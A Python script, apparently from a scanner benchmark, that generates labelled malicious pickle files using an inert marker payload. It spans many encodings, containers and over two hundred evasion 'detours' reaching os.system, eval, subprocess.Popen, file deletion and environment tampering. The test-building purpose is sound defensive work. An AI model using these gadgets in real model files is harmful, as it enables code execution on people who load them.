"""The third set: not a list of bad names, but what find_live.py found to be live, in forms drawn by chance, and
detours by names that look harmless. The payload is a marker that nothing answers to.
    make_third.py FOLDER LIVE.json..."""
import gzip, io, json, pickle, random, struct, sys, zipfile, zlib
from pathlib import Path

from hostile import Apply, Call, Code, Name, framed, header, stream, text0, text4, tuple_of, value

RANDOM = random.Random(23)
MARK = "frhd_marker"
out = Path(sys.argv[1])
manifest = []


def write(family, name, data, label="malicious"):
    path = out / family / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    manifest.append({"path": f"{family}/{name}", "label": label, "family": family})


def given(one):
    if isinstance(one, dict) and "bytes" in one:
        return bytes.fromhex(one["bytes"])
    return tuple(one["tuple"]) if isinstance(one, dict) and "tuple" in one else one


class List(Code):
    """Several values in a list."""

    def __init__(self, *parts):
        self.of = lambda protocol: b"](" + b"".join(value(one, protocol) for one in parts) + b"e"


class Inst(Code):
    """A call by INST or OBJ."""

    def __init__(self, module, name, arguments, opcode):
        inner = lambda protocol: b"".join(value(one, protocol) for one in arguments)
        named = module.encode() + b"\n" + name.encode() + b"\n"
        self.of = lambda protocol: b"(" + (inner(protocol) + b"i" + named if opcode == "inst" else Name(module, name).of(protocol) + inner(protocol) + b"o")


class Built(Code):
    """An object with a state."""

    def __init__(self, made, state):
        self.of = lambda protocol: value(made, protocol) + value(state, protocol) + b"b"


def forms(module, name, arguments):
    """A call as part of what a model's file looks like; dotted names need protocol 4."""
    dotted = "." in name
    call = Call(module, name, *arguments)
    least = 4 if dotted else 0
    form = RANDOM.randrange(9)
    protocol = RANDOM.choice([p for p in range(6) if p >= least])
    if form == 0:
        return stream(call, protocol)
    if form == 1 and not dotted:
        return stream(Inst(module, name, arguments, RANDOM.choice(["inst", "obj"])), protocol)
    if form == 2:
        weights = {f"layer{i}.weight": [float(i)] for i in range(3)}
        data = pickle.dumps(weights, 4)[:-1]
        return data + text4("head") + call.of(4) + b"s."
    if form == 3:
        return stream(Built(Call("collections", "OrderedDict"), {"config": call}), max(protocol, 2))
    if form == 4:
        return header(4) + text4(name) + b"\x940" + text4(module) + b"h\x00\x93" + tuple_of(arguments, 4) + b"R."
    if form == 5:
        return pickle.dumps([1, 2, 3], 2) + stream(call, protocol)
    if form == 6:
        return stream(call, protocol)[:-1] + b"0" + b"\x80\x7f"
    if form == 7:
        return header(4) + framed(Name(module, name).of(4) + b"\x94") + framed(b"0h\x00" + tuple_of(arguments, 4) + b"R.")
    return stream(List("model", call), max(protocol, 2))


def held(data, number):
    """In what holds pickles."""
    kind = number % 6
    if kind == 1:
        file = io.BytesIO()
        with zipfile.ZipFile(file, "w", RANDOM.choice([0, 8])) as archive:
            archive.writestr("archive/data.pkl", data)
            archive.writestr("archive/version", b"3\n")
        return ".pt", file.getvalue()
    if kind == 2:
        return ".joblib", RANDOM.choice([gzip.compress, zlib.compress])(data)
    if kind == 3:
        text = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }\n"
        return ".npy", b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text + data
    return RANDOM.choice([".pkl", ".bin", ".pickle", ".dat", ".ckpt"]), data


def detours():
    """Ways to a harmful call by names that look harmless, or by forms that scanners lose."""
    evil = lambda: Call("os", "system", MARK)
    importing = lambda name: Call("importlib", "import_module", name)
    run = Name("posix", "system")
    yield "list_map", Call("builtins", "list", Call("builtins", "map", run, [MARK]))
    yield "tuple_map", Call("builtins", "tuple", Call("builtins", "map", Name("builtins", "eval"), [MARK]))
    yield "deque_map", Call("collections", "deque", Call("builtins", "map", run, [MARK]))
    yield "dict_filter", Call("builtins", "set", Call("builtins", "filter", Name("nt", "system"), [MARK]))
    yield "sorted_key", Apply(Call("functools", "partial", Name("builtins", "sorted"), [MARK]))
    yield "max_default", Apply(Call("functools", "partial", run, MARK))
    yield "defaultdict", Apply(Call("operator", "methodcaller", "__getitem__", 1), Call("collections", "defaultdict", Call("functools", "partial", run, MARK)))
    yield "iter_sentinel", Call("builtins", "list", Call("builtins", "iter", Call("functools", "partial", run, MARK), 0))
    yield "reduce", Call("functools", "reduce", Name("builtins", "getattr"), [importing("os"), "system"])
    yield "starmap", Call("builtins", "list", Call("itertools", "starmap", run, [(MARK,)]))
    yield "accumulate", Call("builtins", "list", Call("itertools", "accumulate", [MARK, MARK], Name("builtins", "eval")))
    yield "takewhile", Call("builtins", "list", Call("itertools", "takewhile", run, [MARK]))
    yield "groupby", Call("builtins", "list", Call("itertools", "groupby", [MARK], run))
    yield "itertools_dropwhile", Call("builtins", "list", Call("itertools", "dropwhile", run, [MARK]))
    yield "imap_py2", Call("builtins", "list", Call("itertools", "imap", run, [MARK]))
    yield "attrgetter", Apply(Apply(Call("operator", "attrgetter", "system"), importing("os")), MARK)
    yield "itemgetter", Apply(Apply(Call("operator", "itemgetter", "system"), Call("builtins", "vars", importing("os"))), MARK)
    yield "modules", Apply(Call("operator", "methodcaller", "get", "os"), Name("sys", "modules"))
    yield "modules_build", header(2) + b"csys\nmodules\n}X\x03\x00\x00\x00sysX\x02\x00\x00\x00ossb0csys\nsystem\nX\x0b\x00\x00\x00frhd_marker\x85R."
    yield "modules_setitem", header(4) + Name("sys", "modules").of(4) + text4("sys") + Call("operator", "getitem", Name("sys", "modules"), "os").of(4) + b"s0" + Name("sys", "system").of(4) + tuple_of((MARK,), 4) + b"R."
    yield "subclasses", Apply(Name("builtins", "object.__subclasses__"))
    yield "class_mro", Call("builtins", "getattr", Name("collections", "OrderedDict"), "__mro__")
    yield "str_join", Apply(Name("builtins", "str.join"), "", ["o", "s"])
    yield "joined_import", Call("importlib", "import_module", Call("builtins", "str.join", "", ["o", "s"]))
    yield "joined_stack_global", header(4) + Call("builtins", "str.join", "", ["o", "s"]).of(4) + text4("system") + b"\x93" + tuple_of((MARK,), 4) + b"R."
    yield "bytes_decode", header(4) + Call("builtins", "bytes.decode", b"posix").of(4) + Call("builtins", "bytes.decode", b"system").of(4) + b"\x93" + tuple_of((MARK,), 4) + b"R."
    yield "codecs_names", header(4) + Call("_codecs", "decode", b"cbfvk", "rot13").of(4) + text4("system") + b"\x93" + tuple_of((MARK,), 4) + b"R."
    yield "str_of", header(4) + Call("builtins", "str", b"posix", "ascii").of(4) + Call("builtins", "str", b"system", "ascii").of(4) + b"\x93" + tuple_of((MARK,), 4) + b"R."
    yield "replace_names", header(4) + Call("builtins", "str.replace", "pXosix", "X", "").of(4) + text4("system") + b"\x93" + tuple_of((MARK,), 4) + b"R."
    yield "reversed_names", header(4) + Call("operator", "getitem", "xisop", Call("builtins", "slice", None, None, -1)).of(4) + text4("system") + b"\x93" + tuple_of((MARK,), 4) + b"R."
    yield "format_names", header(4) + Call("builtins", "str.format", "{}ix", "pos").of(4) + text4("system") + b"\x93" + tuple_of((MARK,), 4) + b"R."
    yield "copyreg_new", Call("copyreg", "__newobj__", Name("subprocess", "Popen"), [MARK])
    yield "copyreg_reconstructor", Call("copyreg", "_reconstructor", Name("subprocess", "Popen"), Name("builtins", "object"), None)
    yield "copyreg_constructor", Call("copyreg", "__newobj_ex__", Name("functools", "partial"), (run, MARK), {})
    yield "weakref_finalize", Call("weakref", "finalize", Name("collections", "OrderedDict"), run, MARK)
    yield "exit_stack", Call("contextlib", "ExitStack.callback", Call("contextlib", "ExitStack"), run, MARK)
    yield "timer", Call("threading", "Timer", 0, run, [MARK])
    yield "thread_state", Built(Call("threading", "Thread"), {"_target": run, "_args": (MARK,)})
    yield "thread_start", Call("threading", "Thread.start", Call("threading", "Thread", None, run, None, (MARK,)))
    yield "atexit", Call("atexit", "register", run, MARK)
    yield "signal", Call("signal", "signal", 14, run)
    yield "dataclass", Call("dataclasses", "make_dataclass", MARK, [("x", MARK)])
    yield "enum_create", Call("enum", "Enum._create_", Name("enum", "Enum"), MARK, "a")
    yield "forward_ref", Call("typing", "ForwardRef", MARK)
    yield "forward_evaluate", Call("typing", "ForwardRef._evaluate", Call("typing", "ForwardRef", MARK), None, None, Call("builtins", "frozenset"))
    yield "type_hints", Call("typing", "get_type_hints", Name("os", "system"))
    yield "formatter", Call("string", "Formatter.format", Call("string", "Formatter"), "{0.__class__.__init__.__globals__}", Call("string", "Formatter"))
    yield "cached_property", Call("functools", "cached_property.__get__", Call("functools", "cached_property", run), MARK)
    yield "property_get", Call("builtins", "property.__get__", Call("builtins", "property", run), MARK)
    yield "classmethod_get", Apply(Call("builtins", "classmethod.__get__", Call("builtins", "classmethod", run), MARK))
    yield "staticmethod_call", Apply(Call("builtins", "staticmethod", run), MARK)
    yield "method_type", Apply(Call("types", "MethodType", run, MARK))
    yield "lru_cache", Apply(Call("functools", "_lru_cache_wrapper", run, 1, False, Name("functools", "_CacheInfo")), MARK)
    yield "lru_cache_plain", Apply(Apply(Call("functools", "lru_cache", 1), run), MARK)
    yield "singledispatch", Apply(Call("functools", "singledispatch", run), MARK)
    yield "type_call", Call("builtins", "type.__call__", Name("subprocess", "Popen"), [MARK])
    yield "object_getattribute", Apply(Call("builtins", "object.__getattribute__", importing("os"), "system"), MARK)
    yield "type_getattribute", Call("builtins", "type.__getattribute__", Name("os", "_wrap_close"), "__init__")
    yield "function_globals", Call("operator", "getitem", Name("random", "Random.__init__.__globals__"), "_os")
    yield "dict_get", Apply(Call("builtins", "dict.get", Name("random", "Random.seed.__globals__"), "_urandom"), 4)
    yield "call_dunder", Call("os", "system.__call__", MARK)
    yield "class_call", Call("builtins", "getattr", Name("os", "system"), "__call__")
    yield "numpy_vectorize", Apply(Call("numpy", "vectorize", run), [MARK])
    yield "numpy_frompyfunc", Apply(Call("numpy", "frompyfunc", Name("builtins", "eval"), 1, 1), [MARK])
    yield "numpy_apply", Call("numpy", "apply_along_axis", run, 0, [MARK])
    yield "numpy_fromfunction", Call("numpy", "fromfunction", run, (1,))
    yield "numpy_piecewise", Call("numpy", "piecewise", [1], [True], [Name("builtins", "exec")])
    yield "pandas_apply", Call("pandas", "Series.apply", Call("pandas", "Series", [MARK]), run)
    yield "pandas_map", Call("pandas.core.series", "Series.map", Call("pandas.core.series", "Series", [MARK]), Name("builtins", "eval"))
    yield "pandas_pipe", Call("pandas", "Series.pipe", Call("pandas", "Series", [MARK]), run)
    yield "pandas_query", Call("pandas.core.frame", "DataFrame.query", Call("pandas.core.frame", "DataFrame", {"a": [1]}), "@" + MARK)
    yield "sklearn_transform", Call("sklearn.preprocessing._function_transformer", "FunctionTransformer.transform", Built(Call("sklearn.preprocessing._function_transformer", "FunctionTransformer"), {"func": run}), [MARK])
    yield "sklearn_func", Built(Call("sklearn.preprocessing", "FunctionTransformer"), {"func": Name("builtins", "eval"), "validate": False})
    yield "sklearn_delayed", Call("joblib.parallel", "BatchedCalls.__call__", Call("joblib.parallel", "BatchedCalls", [(run, (MARK,), {})], None))
    yield "torch_vmap", Call("torch", "vmap", run)
    yield "torch_map_location", Call("torch.serialization", "load", MARK)
    yield "torch_apply", Call("torch.nn.modules.module", "Module.apply", Call("torch.nn.modules.linear", "Identity"), run)
    yield "torch_dataset_map", Call("torch.utils.data._utils.fetch", "_MapDatasetFetcher.fetch", None, [0])
    yield "torch_rebuild_type", Call("torch._tensor", "_rebuild_from_type_v2", run, Name("builtins", "object"), (MARK,), {})
    yield "cloudpickle_subimport", Call("cloudpickle.cloudpickle", "subimport", MARK)
    yield "cloudpickle_lookup", Call("cloudpickle.cloudpickle", "_getobject", "os", "system")
    yield "dill_import", Call("dill._dill", "_import_module", "os.system")
    yield "dill_eval", Call("dill._dill", "_eval_repr", MARK)
    yield "dill_get_attr", Call("dill._dill", "_get_attr", importing("os"), "system")
    yield "unpickler_find_class", Call("_pickle", "Unpickler.find_class", Call("_pickle", "Unpickler", Call("io", "BytesIO", b"N.")), "os", "system")
    yield "nested", Call("pickle", "loads", stream(evil(), 2))
    yield "nested_joblib", Call("joblib.numpy_pickle", "_unpickle", Call("io", "BytesIO", stream(evil(), 2)), MARK)
    yield "nested_pandas", Call("pandas.compat.pickle_compat", "loads", stream(evil(), 2))
    yield "nested_multiprocessing", Call("multiprocessing.reduction", "ForkingPickler.loads", stream(evil(), 2))
    yield "nested_torch", Call("torch.storage", "_load_from_bytes", stream(evil(), 2))
    yield "nested_shelve", Call("shelve", "open", MARK)
    yield "persistent_id", header(2) + evil().of(2) + b"Q."
    yield "persistent_text", b"P" + MARK.encode() + b"\n0" + stream(evil(), 0)
    yield "newobj_kwargs", header(4) + Name("subprocess", "Popen").of(4) + b")" + value({"args": [MARK]}, 4) + b"\x92."
    yield "newobj_reduce", header(4) + Name("subprocess", "Popen").of(4) + b")\x81" + b"."
    yield "build_class", header(4) + Name("collections", "OrderedDict").of(4) + b"N" + value({"__setstate__": run}, 4) + b"\x86b" + b"."
    yield "build_setstate", header(4) + Call("collections", "UserDict").of(4) + value({"__setstate__": run}, 4) + b"b" + text4(MARK) + b"b."
    yield "build_setstate_eval", header(4) + Name("unittest.mock", "Mock").of(4) + b")R" + value({"__setstate__": Name("builtins", "eval")}, 4) + b"b" + text4(MARK) + b"b."
    yield "append_method", header(4) + Call("argparse", "Namespace").of(4) + value({"append": run, "extend": Name("builtins", "eval")}, 4) + b"b" + text4(MARK) + b"a."
    yield "setitem_method", header(4) + Call("types", "SimpleNamespace").of(4) + value({"append": run}, 4) + b"b(" + text4(MARK) + b"e."
    yield "add_method", header(4) + Call("argparse", "Namespace").of(4) + value({"add": run}, 4) + b"b(" + text4(MARK) + b"\x90."
    yield "ext_registry", header(2) + Call("copyreg", "add_extension", "os", "system", 5).of(2) + b"0\x82\x05" + tuple_of((MARK,), 2) + b"R."
    yield "proto0_in_text", b"S'# Model card\\n\\nA small model.'\n0" + stream(evil(), 0)
    yield "frame_over_end", b"\x80\x04\x95" + struct.pack("<Q", 1 << 40) + evil().of(4) + b"."
    yield "stop_in_frame", header(4) + framed(b"N.") + stream(evil(), 4)
    yield "memoize_collision", header(4) + text4("collections") + b"\x94q\x050" + text4("os") + b"q\x000" + text4("system") + b"\x940h\x00h\x02\x93" + tuple_of((MARK,), 4) + b"R."
    yield "memo_negative", text0("os") + b"p1000000\n0" + text0("system") + b"p3\n0g1000000\ng3\n\x93" + tuple_of((MARK,), 2) + b"R."
    yield "get_spaces", text0("os") + b"p 1\n0" + text0("system") + b"p\t2 \n0g1\ng2\n\x93" + tuple_of((MARK,), 2) + b"R."
    yield "get_underscore", text0("os") + b"p1_0\n0" + text0("system") + b"p2\n0g10\ng2\n\x93" + tuple_of((MARK,), 2) + b"R."
    yield "long_text_number", b"I1_000\n0L0x10L\n0" + stream(evil(), 0)
    yield "unicode_name", header(4) + text4("o\u017f") + text4("system") + b"\x93" + tuple_of((MARK,), 4) + b"R." + stream(evil(), 2)
    yield "tuple_underflow", header(2) + evil().of(2) + b"\x87."
    yield "many_stops", b"N." * 400 + stream(evil(), 2)
    yield "zeros_between", pickle.dumps([1], 4) + stream(evil(), 2)
    yield "after_error", header(2) + evil().of(2) + b"}NNNNb."
    yield "duplicate_top", header(4) + Name("os", "system").of(4) + b"2" + tuple_of((MARK,), 4) + b"R\x86."
    yield "memo_of_call", header(4) + Name("os", "system").of(4) + b"\x94" + tuple_of((MARK,), 4) + b"\x94" + b"00h\x00h\x01R."
    yield "bytes_names", header(4) + b"C\x02osC\x06system\x93" + tuple_of((MARK,), 4) + b"R." + stream(evil(), 4)
    yield "alias_chain", Call("torch.serialization", "os.system", MARK)
    yield "alias_shutil", Call("shutil", "os.system", MARK)
    yield "alias_linecache", Call("linecache", "os.popen", MARK)
    yield "alias_codecs", Call("codecs", "builtins.exec", MARK)
    yield "alias_random", Call("random", "_os.system", MARK)
    yield "alias_collections", Call("collections", "_sys.modules.get", "os")
    yield "alias_dataclasses", Call("dataclasses", "builtins.eval", MARK)
    yield "alias_enum", Call("enum", "bltns.eval", MARK)
    yield "alias_typing", Call("typing", "sys.modules.get", "os")
    yield "alias_logging", Call("logging", "os.system", MARK)
    yield "alias_pathlib", Call("pathlib", "os.system", MARK)
    yield "alias_uuid", Call("uuid", "os.popen", MARK)
    yield "alias_numpy", Call("numpy", "os.system", MARK)
    yield "alias_sklearn", Call("sklearn.base", "warnings.sys.modules.get", "os")
    yield "alias_pandas", Call("pandas.io.common", "os.system", MARK)
    yield "alias_torch_nn", Call("torch.nn.modules.module", "functools.partial", run, MARK)
    yield "alias_functools", Call("functools", "reduce", run, [MARK, MARK])
    yield "alias_joblib", Call("joblib.disk", "shutil.rmtree", MARK)
    yield "alias_from_import", Call("random", "_urandom", 4)
    yield "wrapped_function", Call("functools", "wraps", run)
    yield "path_unlink", Call("pathlib", "Path.unlink", Call("pathlib", "PosixPath", MARK))
    yield "path_write", Call("pathlib", "PosixPath.write_text", Call("pathlib", "PosixPath", MARK), MARK)
    yield "path_touch", Call("pathlib", "Path.touch", Call("pathlib", "PosixPath", MARK))
    yield "path_open", Call("pathlib", "Path.open", Call("pathlib", "PosixPath", MARK), "w")
    yield "path_mkdir", Call("pathlib", "Path.mkdir", Call("pathlib", "PosixPath", MARK))
    yield "path_replace", Call("pathlib", "Path.replace", Call("pathlib", "PosixPath", MARK), MARK)
    yield "path_read", Call("pathlib", "Path.read_bytes", Call("pathlib", "PosixPath", MARK))
    yield "path_method", Apply(Call("builtins", "getattr", Call("pathlib", "PosixPath", MARK), "unlink"))
    yield "ndarray_tofile", Call("numpy", "ndarray.tofile", Call("numpy", "zeros", 1), MARK)
    yield "ndarray_dump", Call("numpy", "ndarray.dump", Call("numpy", "zeros", 1), MARK)
    yield "module_getattr", Call("numpy", "__getattr__", MARK)
    yield "module_dict", Call("builtins", "dict.__getitem__", Name("os", "__dict__"), "system")
    yield "builtins_dict", Call("builtins", "getattr", Name("builtins", "__dict__"), "get")
    yield "logger_manager", Name("logging", "Logger.manager.__init__.__globals__")
    yield "regex_template", Call("re", "Scanner.scan", Call("re", "Scanner", [(".", run)]), MARK)
    yield "regex_sub", Call("re", "sub", ".", run, MARK)
    yield "regex_sub_method", Apply(Call("builtins", "getattr", Call("re", "compile", "."), "sub"), run, MARK)
    yield "json_hook", Call("json", "loads", '{"a": 1}', None, run)
    yield "json_decoder", Call("json.decoder", "JSONDecoder", run)
    yield "csv_dialect", Call("csv", "register_dialect", MARK)
    yield "argparse_type", Call("argparse", "FileType.__call__", Call("argparse", "FileType", "w"), MARK)
    yield "heapq_key", Call("heapq", "nlargest", 1, [MARK, MARK], run)
    yield "pprint", Call("pprint", "pprint", MARK, Call("codecs", "open", MARK, "w"))
    yield "print_file", Call("builtins", "print", MARK)
    yield "getsource", Call("inspect", "getsource", MARK)
    yield "asyncio_run", Call("asyncio", "run", Call("asyncio.subprocess", "create_subprocess_shell", MARK))
    yield "executor", Call("concurrent.futures.thread", "ThreadPoolExecutor.submit", Call("concurrent.futures.thread", "ThreadPoolExecutor"), run, MARK)
    yield "pool", Call("multiprocessing.pool", "Pool.map", Call("multiprocessing.dummy", "Pool"), run, [MARK])
    yield "process_run", Call("multiprocessing.process", "BaseProcess.run", Call("multiprocessing.process", "BaseProcess", None, run, None, (MARK,)))
    yield "sched", Call("sched", "scheduler.enter", Call("sched", "scheduler"), 0, 0, run, (MARK,))
    yield "queue_get", Call("multiprocessing.managers", "MakeProxyType", MARK, [MARK])
    yield "sqlite_function", Call("sqlite3", "connect", MARK)
    yield "ctypes_py", Call("ctypes", "CDLL", MARK)
    yield "ctypes_function", Apply(Call("builtins", "getattr", Call("ctypes", "PyDLL", None), "system"), MARK.encode())
    yield "xml_parse", Call("xml.etree.ElementTree", "parse", MARK)
    yield "xml_sax", Call("xml.sax", "parse", MARK, None)
    yield "minidom", Call("xml.dom.minidom", "parse", MARK)
    yield "plist", Call("plistlib", "load", Call("codecs", "open", MARK))
    yield "gettext", Call("gettext", "c2py", "n+1")
    yield "configparser", Call("configparser", "RawConfigParser.read", Call("configparser", "RawConfigParser"), MARK)
    yield "zip_extract", Call("zipfile", "ZipFile", MARK, "w")
    yield "tar_open", Call("tarfile", "open", MARK, "w")
    yield "help", Call("_sitebuiltins", "_Helper.__call__", Call("_sitebuiltins", "_Helper"), MARK)
    yield "license_file", Call("_sitebuiltins", "_Printer", MARK, MARK, [MARK], [MARK])
    yield "warnings", Call("warnings", "showwarning", MARK, Name("builtins", "UserWarning"), MARK, 1)
    yield "locale", Call("_locale", "bindtextdomain", MARK, MARK)
    yield "decimal_context", Call("decimal", "setcontext", Call("decimal", "Context"))
    yield "time_sleep", Call("time", "sleep", 3600)
    yield "os_exit", Call("os", "_exit", 0)
    yield "kill", Call("os", "kill", 0, 9)
    yield "recursion", Call("sys", "setrecursionlimit", 1 << 30)
    yield "environment", Call("os", "putenv", "LD_PRELOAD", MARK)
    yield "environ_update", Call("operator", "setitem", Name("os", "environ"), "PATH", MARK)
    yield "path_insert", Call("builtins", "list.insert", Name("sys", "path"), 0, MARK)
    yield "path_append", header(4) + Name("sys", "path").of(4) + text4(MARK) + b"a."
    yield "monkeypatch", header(4) + Name("torch.nn.modules.linear", "Linear").of(4) + b"N" + value({"forward": run}, 4) + b"\x86b."
    yield "builtins_setitem", header(4) + Name("builtins", "__dict__").of(4) + text4("len") + run.of(4) + b"s."
    yield "setattr", Call("builtins", "setattr", Name("torch", "load"), MARK, 1)
    yield "type_three", Call("builtins", "type", MARK, (), {"__init__": run})
    yield "type_new", header(4) + Name("builtins", "type").of(4) + value((MARK, (), {"__del__": run}), 4) + b"\x81."
    yield "gc_referents", Call("gc", "get_objects")
    yield "frame", Call("sys", "_getframe", 0)
    yield "audit_off", Call("sys", "addaudithook", run)
    yield "settrace", Call("sys", "settrace", run)
    yield "excepthook", header(4) + Call("importlib", "import_module", "sys").of(4) + value({"excepthook": run}, 4) + b"b."


# Their sources show that they only check the name, or read a literal.
INERT = ("namedtuple", "matrix", "asmatrix")
seen = set()
found = [json.loads(line) for path in sys.argv[2:] for line in open(path)]
RANDOM.shuffle(found)
taken = {}
for one in found:
    key, top = (one["module"], one["name"]), one["module"].split(".")[0]
    if one["name"] in INERT or key in seen or taken.get((one["module"], one["kind"]), 0) >= 12 or taken.get(top, 0) >= 120:
        continue
    seen.add(key)
    taken[one["module"], one["kind"]] = taken.get((one["module"], one["kind"]), 0) + 1
    taken[top] = taken.get(top, 0) + 1
    suffix, data = held(forms(one["module"], one["name"], tuple(map(given, one["arguments"]))), len(seen))
    write(one["kind"], f"{one['module']}-{one['name']}{suffix}", data)
for name, part in detours():
    data = part if isinstance(part, bytes) else stream(part, RANDOM.choice([4, 5]))
    write("detour", f"{name}.pkl", data)
(out / "manifest.json").write_text(json.dumps(manifest, indent=0))
print(len(manifest), "files")
